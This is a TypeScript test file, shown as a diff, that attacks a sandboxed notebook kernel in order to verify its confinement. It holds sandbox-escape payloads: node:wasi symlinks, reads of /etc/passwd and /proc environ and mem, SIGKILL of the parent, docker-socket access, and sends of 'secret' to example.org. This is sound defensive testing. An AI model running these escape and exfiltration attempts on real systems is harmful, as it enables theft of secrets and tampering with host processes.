@@ -1,0 +1,493 @@
+/**
+ * Hostile notebooks against the installed kernel. Every attack runs in a cell
+ * and in a worker of a cell; what it was after is looked at from outside. Then
+ * each sentence of the README and the guide on permissions.
+ *
+ * Run: .ci/outside/attacks.sh
+ *
+ * @module
+ */
+import { join } from "@std/path";
+import { dependencyCache } from "../../lib/kernel/session/dependency_cache.ts";
+import { SessionInterpreter } from "../../lib/kernel/session/mod.ts";
+import { HostileKernel, inCell, inWorker } from "./hostile_kernel.ts";
+import { check, demand, fail, finish } from "./tally.ts";
+
+const project = new URL("../../", import.meta.url).pathname.replace(/\/$/, "");
+const launcher = join(project, "lib/kernel/confine/launcher.ts");
+const main = join(project, "lib/kernel/launch/main.ts");
+const cache = dependencyCache();
+const secretText = "the secret of another folder";
+
+const place = await Deno.makeTempDir({ prefix: "fringebook-attacks-" });
+const folder = join(place, "notebook");
+const secret = join(place, "secret.txt");
+await Deno.mkdir(folder);
+await Deno.writeTextFile(secret, secretText);
+
+/** Counts who connects: a proxy that all requests would have to pass. */
+function startTrap() {
+  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const trap = { port: listener.addr.port, hits: 0, listener };
+  void (async () => {
+    for await (const connection of listener) {
+      trap.hits++;
+      connection.close();
+    }
+  })().catch(() => {});
+  return trap;
+}
+
+/** Sets up WASI in the notebook's folder, and `wasi.path_…` with texts. */
+const wasi = `
+  const { WASI } = await import("node:wasi");
+  const system = new WASI({ version: "preview1", preopens: { "/": Deno.cwd() } });
+  const module = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 5, 3, 1, 0, 1, 7, 24, 2,
+    6, ...new TextEncoder().encode("memory"), 2, 0, 11, ...new TextEncoder().encode("_initialize"), 0, 0, 10, 4, 1, 2, 0, 11]);
+  const { instance } = await WebAssembly.instantiate(module);
+  system.initialize(instance);
+  const memory = new Uint8Array(instance.exports.memory.buffer);
+  let at = 1024;
+  const text = (value) => {
+    const bytes = new TextEncoder().encode(value);
+    memory.set(bytes, at);
+    at += bytes.length;
+    return [at - bytes.length, bytes.length];
+  };
+  const calls = system.wasiImport;
+  const symlink = (target, name) => calls.path_symlink(...text(target), 3, ...text(name));
+  const hardLink = (from, to) => calls.path_link(3, 0, ...text(from), 3, ...text(to));
+  const openPath = (path, flags) => calls.path_open(3, 1, ...text(path), flags, 0x1fffffffn, 0n, 0, 0);`;
+
+const secretPath = JSON.stringify(secret);
+
+interface Attack {
+  readonly name: string;
+  /** Body of an async function; gives what it got as text. */
+  readonly body: string;
+  /** Says why the attack was not held; `null` if it was. */
+  readonly broken?: (text: string) => string | null;
+}
+
+/** Tries each and gives what came of it. */
+const tryAll = (...attempts: string[]) =>
+  `const said = [];
+   for (const attempt of [${
+    attempts.map((code) => `async () => ${code}`).join(", ")
+  }]) {
+     const late = new Promise((_, failed) => setTimeout(() => failed({ name: "as nothing came" }), 3000));
+     try { said.push("GOT " + String(await Promise.race([attempt(), late])).slice(0, 200)); }
+     catch (error) { said.push("refused " + error.name); }
+   }
+   return said.join("; ");`;
+
+const nothingGot = (text: string) =>
+  /GOT|worker failed: (?!Uncaught NotCapable)/.test(text) ||
+    !/refused|NotCapable/.test(text)
+    ? `it got something: ${text}`
+    : null;
+
+const attacks: Attack[] = [
+  {
+    name: "a symbolic link made with node:wasi, to read another folder",
+    body: `${wasi}
+      const code = symlink("../secret.txt", "way");
+      const code2 = symlink(${secretPath}, "way2");
+      return code + " " + code2 + " " + await Deno.readTextFile("way").catch((e) => e.name) + " " + openPath("way", 0)`,
+    broken: (text) => /^['"]?0 |the secret/.test(text) ? text : null,
+  },
+  {
+    name: "the same to write there",
+    body: `${wasi}
+      symlink("../secret.txt", "way3");
+      return await Deno.writeTextFile("way3", "changed").then(() => "written", (e) => e.name)`,
+  },
+  {
+    name: "a link to the kernel's launcher, to run with its permissions",
+    body: `${wasi}
+      const said = [];
+      for (const target of ${
+      JSON.stringify([launcher, main, join(cache, "gen")])
+    }) {
+        said.push(symlink(target, "launcher" + said.length));
+        try { Deno.openSync("launcher" + (said.length - 1), { append: true }).close(); said.push("OPENED"); }
+        catch { /* refused */ }
+      }
+      return said.join(" ")`,
+    broken: (text) => /OPENED|\b0\b/.test(text) ? text : null,
+  },
+  {
+    name: "hard links, by node:wasi and by name",
+    body: `${wasi}
+      await Deno.writeTextFile("mine.txt", "");
+      const code = hardLink("mine.txt", "hard.txt");
+      ${
+      tryAll(
+        `Deno.linkSync(${secretPath}, "hard2.txt")`,
+        `(await import("node:fs")).linkSync("mine.txt", "hard3.txt")`,
+      )
+    }`,
+    broken: nothingGot,
+  },
+  {
+    name: "reading outside by every name of it",
+    body: tryAll(
+      `Deno.readTextFile(${secretPath})`,
+      `Deno.readTextFile("../secret.txt")`,
+      `Deno.readTextFile("/proc/self/root" + ${secretPath})`,
+      `Deno.readTextFile("/proc/self/cwd/../secret.txt")`,
+      `(await import("node:fs")).readFileSync(${secretPath}, "utf8")`,
+      `import("data:text/javascript,export default 1").then(() => import("file://" + ${secretPath}, { with: { type: "text" } }))`,
+      `fetch("file://" + ${secretPath}).then((r) => r.text())`,
+      `Deno.readTextFile("/etc/passwd")`,
+    ),
+    broken: nothingGot,
+  },
+  {
+    name: "the kernel's own process: its memory, its environment, signals",
+    body: tryAll(
+      `Deno.readTextFile("/proc/" + Deno.ppid + "/environ")`,
+      `Deno.open("/proc/" + Deno.ppid + "/mem", { write: true, read: true })`,
+      `Deno.kill(Deno.ppid, "SIGKILL")`,
+      `process.kill(Deno.ppid, "SIGKILL")`,
+      `(await import("node:process")).kill(1, "SIGTERM")`,
+    ),
+    broken: nothingGot,
+  },
+  {
+    name: "writing the library, the settings, the compiled code of the cache",
+    body: tryAll(
+      `Deno.writeTextFile(${JSON.stringify(join(project, "lib/new.ts"))}, "")`,
+      `Deno.open(${JSON.stringify(launcher)}, { append: true })`,
+      `Deno.writeTextFile(${
+        JSON.stringify(join(project, "notebook_permissions.json"))
+      }, "{}")`,
+      `Deno.writeTextFile("notebook_permissions.json", "{}")`,
+      `Deno.writeTextFile(${JSON.stringify(join(cache, "gen/new.js"))}, "")`,
+      `Deno.rename(${JSON.stringify(join(project, "lib"))}, "lib")`,
+    ),
+    broken: nothingGot,
+  },
+  {
+    name: "words to the network: registry, hosts, sockets, names",
+    body: tryAll(
+      `import("npm:x-" + "secret")`,
+      `import("npm:@x-secret/y@1.0.0")`,
+      `import("jsr:@x/secret")`,
+      `import("https://example.org/secret.ts")`,
+      `fetch("http://example.org/secret")`,
+      `new Promise((done, failed) => { const s = new WebSocket("ws://example.org/secret"); s.onopen = done; s.onerror = () => failed(new Error("no socket")); })`,
+      `Deno.connect({ hostname: "127.0.0.1", port: 9 })`,
+      `Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })`,
+      `Deno.resolveDns("secret.example.org", "A")`,
+      `(await import("node:dns/promises")).lookup("secret.example.org")`,
+      `new Promise((done, failed) => import("node:dgram").then(({ createSocket }) => { const s = createSocket("udp4"); s.on("error", failed); s.send("secret", 9, "127.0.0.1", (e) => e ? failed(e) : done(1)); }, failed))`,
+      `Deno.listen({ port: 0 })`,
+      `Promise.resolve(Deno.createHttpClient).then((create) => create({ proxy: { url: "http://127.0.0.1:9" } })).then((client) => fetch("http://example.org", { client }))`,
+    ),
+    broken: nothingGot,
+  },
+  {
+    name: "storage that is kept past the notebook: localStorage, caches, KV",
+    body: tryAll(
+      `localStorage.setItem("mine", "x".repeat(1e6)) ?? localStorage.length`,
+      `caches.open("mine").then((c) => c.put("http://a/b", new Response("x".repeat(1e6)))).then(() => caches.has("mine"))`,
+      `Deno.openKv().then((kv) => kv.set(["a"], 1))`,
+      `(await import("node:sqlite")).DatabaseSync && new (await import("node:sqlite")).DatabaseSync("/tmp/fringebook-attack.db").exec("create table a(b)")`,
+    ),
+    broken: nothingGot,
+  },
+  {
+    name: "programs, libraries, environment, facts of the machine, inspector",
+    body: tryAll(
+      `new Deno.Command("ls").output()`,
+      `new Promise((done, failed) => import("node:child_process").then(({ spawn }) => spawn("ls").on("error", failed).on("exit", done), failed))`,
+      `Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`,
+      // In a worker it is as if it were not there.
+      `Deno.env.get("HOME") ?? Promise.reject(new Error("nothing there"))`,
+      `Deno.hostname()`,
+      `(await import("node:inspector")).open(0)`,
+    ),
+    broken: nothingGot,
+  },
+];
+
+async function stateOutside(): Promise<string> {
+  const names = async (path: string) => {
+    const found: string[] = [];
+    try {
+      for await (const { name } of Deno.readDir(path)) found.push(name);
+    } catch {
+      return "none";
+    }
+    return found.sort().join(" ");
+  };
+  return JSON.stringify([
+    await Deno.readTextFile(secret),
+    await names(place),
+    await names(join(cache, "location_data")),
+    await names(project),
+    (await Deno.stat(launcher)).mtime,
+    (await Deno.stat(main)).mtime,
+  ]);
+}
+
+async function replay(): Promise<void> {
+  const trap = startTrap();
+  const proxy = `http://127.0.0.1:${trap.port}`;
+  const env = { HTTPS_PROXY: proxy, HTTP_PROXY: proxy, https_proxy: proxy };
+  const kernel = await HostileKernel.start({ folder, env });
+  try {
+    // What the kernel itself looks up when it starts is not the notebook's.
+    await kernel.run("1");
+    await new Promise((resolve) => setTimeout(resolve, 2000));
+    const own = trap.hits;
+    console.log(`  ${own} connections of the kernel itself at its start`);
+    const before = await stateOutside();
+    for (const { name, body, broken = () => null } of attacks) {
+      for (
+        const [where, code] of [
+          ["in a cell", inCell(body)],
+          ["in a worker", inWorker(body)],
+        ]
+      ) {
+        await check(`held ${where}: ${name}`, async () => {
+          const { text } = await kernel.run(code!);
+          console.log(`  ${text.slice(0, 300).replaceAll("\n", " ")}`);
+          const why = broken(text);
+          demand(why === null, why ?? "");
+          demand(!text.includes(secretText), "the secret was read");
+          demand(
+            await stateOutside() === before,
+            `something outside has changed: ${await stateOutside()}, before: ${before}`,
+          );
+          demand(
+            trap.hits === own,
+            `${trap.hits - own} connections left the machine`,
+          );
+          const { text: alive } = await kernel.run("1 + 1");
+          demand(alive.endsWith("2"), `the kernel is not well: ${alive}`);
+        });
+      }
+    }
+  } finally {
+    await kernel.stop();
+  }
+  const before = trap.hits;
+  await check(
+    "the trap does see a package that the person allows",
+    async () => {
+      const granted = await HostileKernel.start({
+        folder,
+        env,
+        flags: ["--allow-import=registry.npmjs.org"],
+      });
+      const { text } = await granted.run(
+        `await import("npm:x-not-there@1.0.0")`,
+      );
+      await granted.stop();
+      demand(trap.hits > before, `nobody came: ${text}`);
+    },
+  );
+  trap.listener.close();
+}
+
+/** A folder that arrives with links. */
+async function arriving(): Promise<void> {
+  const arrived = join(place, "arrived");
+  await Deno.mkdir(join(arrived, "deep"), { recursive: true });
+  await Deno.writeTextFile(
+    join(arrived, "a.ipynb"),
+    JSON.stringify({
+      nbformat: 4,
+      nbformat_minor: 5,
+      metadata: {},
+      cells: [{
+        cell_type: "code",
+        id: "a",
+        metadata: {},
+        outputs: [],
+        execution_count: null,
+        source: "1 + 1",
+      }],
+    }),
+  );
+  const links: [string, string][] = [
+    ["data", secret],
+    ["deep/folder", place],
+    ["deep/new", join(place, "not-there-yet.txt")],
+    [".hidden", launcher],
+  ];
+  for (const [name, target] of links) {
+    await Deno.symlink(target, join(arrived, name));
+  }
+  await check("held: a folder that arrives with links, in a cell", async () => {
+    const kernel = await HostileKernel.start({ folder: arrived });
+    const { text, status } = await kernel.run(
+      `await Deno.readTextFile("data")`,
+    );
+    await kernel.stop();
+    demand(status === "error", "the cell ran");
+    for (const [name] of links) demand(text.includes(name), `${name}: ${text}`);
+    demand(!text.includes(secretText), "the secret was read");
+  });
+  await check("held: the same in 'deno task run', with the names", async () => {
+    const { code, stdout, stderr } = await new Deno.Command(Deno.execPath(), {
+      args: ["task", "--quiet", "run", join(arrived, "a.ipynb")],
+      cwd: project,
+    }).output();
+    const text = new TextDecoder().decode(stdout) +
+      new TextDecoder().decode(stderr);
+    demand(code !== 0, "it ran well");
+    for (const [name] of links) demand(text.includes(name), `${name}: ${text}`);
+  });
+  await check("a link to what the person allows is followed", async () => {
+    const kernel = await HostileKernel.start({
+      folder: arrived,
+      flags: [`--allow-read=${place},${project}`],
+    });
+    const { text } = await kernel.run(`await Deno.readTextFile("data")`);
+    const { text: written } = await kernel.run(
+      `await Deno.writeTextFile("data", "changed").then(() => "written", (e) => e.name)`,
+    );
+    await kernel.stop();
+    demand(text.includes(secretText), text);
+    demand(!written.includes("written"), "and written, too");
+    demand(await Deno.readTextFile(secret) === secretText, "it was changed");
+  });
+}
+
+/** Limits that the system keeps, here on a session as marking uses it. */
+async function limits(): Promise<void> {
+  const session = new SessionInterpreter({
+    notebookFolder: folder,
+    limits: { fileSize: 1e6, processorTime: 20, openFiles: 60 },
+  });
+  const run = async (code: string) => {
+    const texts: string[] = [];
+    const outcome = await session.execute({
+      code,
+      executionCount: 1,
+      cellId: null,
+      silent: false,
+      userExpressions: {},
+    }, {
+      requestId: crypto.randomUUID(),
+      publish: (output) => void texts.push(JSON.stringify(output)),
+      requestInput: () => Promise.resolve(""),
+      ready: () => Promise.resolve(),
+    });
+    return texts.join("") + JSON.stringify(outcome);
+  };
+  await check("held: files that are removed and stay open", async () => {
+    const text = await run(`
+      let size = 0;
+      const open = [];
+      try {
+        for (let n = 0; n < 200; n++) {
+          const file = Deno.openSync("big" + n, { create: true, write: true });
+          Deno.removeSync("big" + n);
+          open.push(file);
+          for (let k = 0; k < 40; k++) size += file.writeSync(new Uint8Array(1e5));
+        }
+      } catch (error) { console.log(error.name, error.message) }
+      "wrote " + (size / 1e6).toFixed(1)`);
+    const size = Number(/wrote ([\d.]+)/.exec(text)?.[1] ?? 0);
+    console.log(`  ${size} MB: ${text.slice(0, 200)}`);
+    demand(size <= 60, `${size} MB were written`);
+  });
+  await check("held: a loop without an end, by processor time", async () => {
+    const text = await run("for (;;) {}");
+    demand(/SIGXCPU|SIGKILL/.test(text), text.slice(0, 300));
+  });
+  await session.close();
+}
+
+/** Each sentence of the README and of the guide on permissions. */
+async function sentences(): Promise<void> {
+  const kernel = await HostileKernel.start({ folder });
+  const granted = await HostileKernel.start({
+    folder,
+    flags: ["--allow-env=HOME", `--allow-read=${secret}`],
+  });
+  const path = (...parts: string[]) => JSON.stringify(join(project, ...parts));
+  const said: [sentence: string, code: string, expected: RegExp][] = [
+    [
+      "may read the project",
+      `(await Deno.readTextFile(${path("README.md")})).slice(0, 12)`,
+      /^"# Fringebook"$/,
+    ],
+    [
+      "may read and write their own folder",
+      `await Deno.writeTextFile("own.txt", "own"); await Deno.readTextFile("own.txt")`,
+      /^"own"$/,
+    ],
+    [
+      "may write out/",
+      `const file = ${
+        path("out", "attacks.txt")
+      }; await Deno.writeTextFile(file, "a"); await Deno.remove(file); "done"`,
+      /^"done"$/,
+    ],
+    [
+      "may not write the project",
+      `await Deno.writeTextFile(${path("new.txt")}, "a")`,
+      /NotCapable.*outside of the notebook/s,
+    ],
+    ["have no network", `await fetch("http://example.org")`, /NotCapable/],
+    ["have no environment", `Deno.env.get("HOME")`, /NotCapable/],
+    ["start no programs", `new Deno.Command("ls").outputSync()`, /NotCapable/],
+    [
+      "fetch no packages but those of deno.json",
+      `await import("npm:x-not-there")`,
+      /may not fetch|had no|was not fetched/,
+    ],
+    [
+      "load the packages of deno.json from the cache",
+      `typeof (await import("ml-matrix")).Matrix`,
+      /^"function"$/,
+    ],
+    ["keep nothing in localStorage", `localStorage.a = 1`, /not defined/],
+    [
+      "cannot change the file of permissions",
+      `await Deno.writeTextFile(${path("notebook_permissions.json")}, "{}")`,
+      /is protected/,
+    ],
+  ];
+  for (const [sentence, code, expected] of said) {
+    await check(`notebooks ${sentence}`, async () => {
+      const { text } = await kernel.run(code);
+      demand(expected.test(text), text);
+    });
+  }
+  await check("granting more is up to the person", async () => {
+    const { text } = await granted.run(
+      `typeof Deno.env.get("HOME") + await Deno.readTextFile(${secretPath})`,
+    );
+    demand(text === `"string${secretText}"`, text);
+  });
+  await check("the kernel says how notebooks are confined", async () => {
+    const { reply } = await kernel.client.request("kernel_info_request");
+    const banner = String(reply?.content["banner"]);
+    console.log(`  ${banner.replaceAll("\n", " | ")}`);
+    demand(
+      /confined (in part )?by the system|by Deno alone/.test(banner),
+      banner,
+    );
+  });
+  await kernel.stop();
+  await granted.stop();
+}
+
+try {
+  for (const part of [replay, arriving, limits, sentences]) {
+    try {
+      await part();
+    } catch (error) {
+      fail((error as Error).stack ?? String(error));
+    }
+  }
+} finally {
+  await Deno.remove(place, { recursive: true });
+}
+finish();
